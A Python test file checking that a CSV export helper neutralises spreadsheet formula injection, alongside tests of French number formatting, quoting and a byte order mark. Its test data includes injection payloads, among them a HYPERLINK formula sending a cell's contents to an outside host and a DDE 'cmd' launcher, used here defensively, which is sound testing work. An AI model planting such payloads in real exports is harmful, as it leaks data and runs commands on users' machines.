"""Formula injection in exports (OWASP ASVS v5.0.0-1.2.10; CWE-1236)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from filiere.lib.csvsafe import BOM, safe_cell, write_csv


@pytest.mark.parametrize(
    "payload",
    [
        "=1+1",
        '=HYPERLINK("http://x/?"&A1,"clic")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        "|x",
    ],
)
def test_formula_payloads_are_neutralised(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


def test_numbers_are_written_as_a_french_spreadsheet_reads_them() -> None:
    assert safe_cell(-12.5) == "-12,5"
    assert safe_cell(Decimal("7.45")) == "7,45"
    assert safe_cell(42) == "42"
    assert safe_cell("Glanzmann") == "Glanzmann"
    assert safe_cell(None) == ""


def test_csv_round_trip_keeps_quoting_and_separators() -> None:
    text = write_csv(["nom", "valeur"], [["a;b", '"x"'], ["=1+1", -3]])
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM)), delimiter=";"))
    assert rows == [["nom", "valeur"], ["a;b", '"x"'], ["'=1+1", "-3"]]


def test_every_csv_opens_with_one_byte_order_mark() -> None:
    """Read-through finding: only the RCP attendance CSV had the BOM French Excel needs; the
    statistics, audit and observatory exports showed « Ã© » for « é »."""
    text = write_csv(["spécialité"], [["hématologie"]])
    assert text.startswith(BOM)
    assert not text.startswith(BOM * 2)
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
